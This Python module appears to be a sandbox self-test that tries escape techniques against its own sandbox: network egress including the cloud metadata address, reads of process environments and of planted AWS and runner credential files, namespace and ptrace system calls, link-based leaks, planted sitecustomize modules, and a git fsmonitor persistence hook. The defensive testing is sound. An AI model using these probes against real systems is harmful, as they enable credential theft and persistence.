"""Ways out of the sandbox: network, other processes, files, system calls, planted files. One row each.

Addresses are documentation and link-local ones, and names end in .invalid. They are tried only after the sandbox has
shown that it has no network device but its own loopback: where it has one, that alone is the finding.
"""

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from factory.install.attack.canaries import Canaries, leaked
from factory.install.attack.cell import Cell
from factory.install.attack.tried import Attack, Tried

DEVICES = Attack(id="network", tried="test code looks for a network device")
EGRESS = Attack(id="egress", tried="test code sends: DNS, TCP, UDP, IPv6, the cloud's metadata address")
HOST = Attack(id="host-servers", tried="test code connects to servers of this machine: TCP, abstract and bound sockets")
PROCESSES = Attack(id="processes", tried="test code reads /proc/*/environ and command lines")
PRIVATE = Attack(id="files", tried="test code reads your home, the runner's files and both through a planted link")
CALLS = Attack(id="system-calls", tried="test code calls unshare, mount, ptrace, setns and chroot")
BACK = Attack(id="links-out", tried="test code leaves symbolic and hard links to a secret in what comes back")
PLANTED = Attack(id="planted-code", tried="the tree holds sitecustomize.py, conftest.py and modules named like ours")
LASTING = Attack(id="lasting", tried="test code leaves a .git with a hook and core.fsmonitor for the next job")
ALL = (DEVICES, EGRESS, HOST, PROCESSES, PRIVATE, CALLS, BACK, PLANTED, LASTING)
_REPORT = "run `factory doctor` and put right what it says of the sandbox; if it says ok, report this"

_TRY = """
import ctypes, errno, json, os, socket
said = {}
def attempt(name, work):
    try:
        work()
        said[name] = "worked"
    except socket.gaierror:
        said[name] = "no answer"
    except OSError as error:
        said[name] = errno.errorcode.get(error.errno, str(error))
"""
_NETWORK = (
    _TRY
    + """
devices = [line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]]
said["devices"] = devices
if devices == ["lo"]:
    attempt("DNS", lambda: socket.getaddrinfo("canary.invalid", 80))
    attempt("TCP", lambda: socket.create_connection(("192.0.2.1", 443), 2))
    attempt("UDP", lambda: socket.socket(2, 2).sendto(b"canary", ("192.0.2.1", 53)))
    attempt("IPv6", lambda: socket.create_connection(("2001:db8::1", 443), 2))
    attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 2))
    attempt("raw", lambda: socket.socket(2, 3, 1))
print(json.dumps(said))
"""
)
_HOST = (
    _TRY
    + """
def unix(address):
    made = socket.socket(socket.AF_UNIX)
    made.settimeout(2)
    made.connect(address)
attempt("loopback", lambda: socket.create_connection(("127.0.0.1", PORT), 2))
attempt("abstract socket", lambda: unix("\\0ABSTRACT"))
attempt("bound socket", lambda: unix("BOUND"))
attempt("docker", lambda: unix("/var/run/docker.sock"))
attempt("session bus", lambda: unix("/run/user/UID/bus"))
print(json.dumps(said))
"""
)
_LOOK = """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                print(pid, name, open(f"/proc/{pid}/{name}", "rb").read())
            except OSError as error:
                print(pid, name, error.strerror)
print(dict(os.environ))
"""
_READ = """
import os
os.symlink(SECRET, "/work/link")
for path in (SECRET, "/work/link", "/proc/1/root" + SECRET, "/proc/self/root" + SECRET, "/proc/1/cwd/.." + SECRET):
    try:
        print(path, open(path).read())
    except OSError as error:
        print(path, error.strerror)
"""
_CALLS = (
    _TRY
    + """
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    value = getattr(libc, name)(*arguments)
    said[name] = "worked" if value >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
call("unshare", 0x10000000)
call("unshare", 0x40000000)
call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
call("ptrace", 16, 1, None, None)
call("setns", 0, 0)
call("chroot", b"/tmp")
print(json.dumps(said))
"""
)
_LEAVE = """
mkdir -p .git/hooks
echo '[core] fsmonitor=touch /tmp/owned' > .git/config
cp run.sh .git/hooks/post-checkout
echo x > left
"""


def attacks(cell: Cell, folder: Path, canaries: Canaries) -> Iterator[Tried]:
    yield from _network(cell)
    yield _servers(cell, folder)
    seen = leaked(cell.python(_LOOK).output, (canaries.environment, canaries.home))
    yield PROCESSES.judged("secrets of this machine's processes were read" if seen else "",
                           "a process namespace of its own; its environment is empty of yours", _REPORT)  # fmt: skip
    yield _files(cell, folder, canaries)
    worked = _worked(_said(cell.python(_CALLS).output))
    yield CALLS.judged(worked, "refused by the system call filter", _REPORT)
    yield _links(cell, folder, canaries)
    yield _planted(cell)
    cell.shell(_LEAVE)
    left = cell.shell("ls -A").output.split()
    bad = f"the next job finds {', '.join(left)[:80]}" if left != ["app.py", "run.sh"] else ""
    yield LASTING.judged(bad, "each job gets its own copy; what ships is the tree from before the tests", _REPORT)


def _network(cell: Cell) -> Iterator[Tried]:
    said = _said(cell.python(_NETWORK).output)
    devices = said.pop("devices", ["?"])
    if devices != ["lo"]:
        yield DEVICES.broke(f"it has {', '.join(map(str, devices))[:100]}", _REPORT)
        yield EGRESS.broke("not tried: there is a network to send over", _REPORT)
        return
    yield DEVICES.held("none but a loopback of its own")
    yield EGRESS.judged(_worked(said), _answers(said), _REPORT)


def _servers(cell: Cell, folder: Path) -> Tried:
    """Real servers of this process, that nobody may reach."""
    name, path = f"factory-attack-{os.getpid()}", str(folder / "bound")
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(socket.AF_UNIX) as abstract,
        socket.socket(socket.AF_UNIX) as bound,
    ):
        abstract.bind(f"\0{name}")
        bound.bind(path)
        for each in (abstract, bound):
            each.listen()
        program = _HOST.replace("PORT", str(server.getsockname()[1])).replace("ABSTRACT", name)
        said = _said(cell.python(program.replace("BOUND", path).replace("UID", str(os.getuid()))).output)
    return HOST.judged(_worked(said), _answers(said), _REPORT)


def _files(cell: Cell, folder: Path, canaries: Canaries) -> Tried:
    home = folder / "home"
    secret = [home / ".aws" / "credentials", home / "actions-runner" / ".credentials"]
    seen = [path for path in secret
            if leaked(cell.python(f"SECRET = {str(path)!r}\n{_READ}").output, (canaries.home,))]  # fmt: skip
    return PRIVATE.judged(f"{seen[0].name} was read" if seen else "",
                          "no folder of this machine is in it but the system's own, read-only", _REPORT)  # fmt: skip


def _links(cell: Cell, folder: Path, canaries: Canaries) -> Tried:
    secret = folder / "home" / ".aws" / "credentials"
    result = cell.shell(
        f"ln -s {secret} /out/leak; ln -s {secret.parent} /out/folder; ln {secret} /out/hard; cp app.py /out/real; true"
    )
    came = "\n".join(data.decode(errors="replace") for data in result.files.values())
    strange = set(result.files) - {"real"}
    bad = "a secret came back" if leaked(came, (canaries.home,)) else ""
    bad = bad or (f"{', '.join(sorted(strange))} came back" if strange else "")
    return BACK.judged(bad, "only regular files come back, none is opened through a link", _REPORT)


def _planted(cell: Cell) -> Tried:
    evil = b"import os; open('/out/' + str(os.getpid()), 'w').close()\n"
    names = ("sitecustomize.py", "usercustomize.py", "conftest.py", "json.py", "tarfile.py", "ctypes.py", "socket.py")
    result = cell.shell("true", overlay=dict.fromkeys(names, evil))
    return PLANTED.judged("our own first process ran it" if result.files or result.status != "exited" else "",
                          "our own first process imports nothing of the tree", _REPORT)  # fmt: skip


def _said(output: str) -> dict[str, Any]:
    """What a probe printed; a probe that did not get that far proves nothing, so it counts as a way out."""
    last = output.strip().rpartition("\n")[2]
    try:
        found = json.loads(last)
    except ValueError:
        return {"the probe": "worked"}
    return found if isinstance(found, dict) else {"the probe": "worked"}


def _worked(said: dict[str, Any]) -> str:
    open_ = [name for name, how in said.items() if how == "worked"]
    if open_ == ["the probe"]:
        return "the probe was ended before it said anything"
    return f"got through: {', '.join(open_)}" if open_ else ""


def _answers(said: dict[str, Any]) -> str:
    return ", ".join(f"{name} {how}" for name, how in said.items())
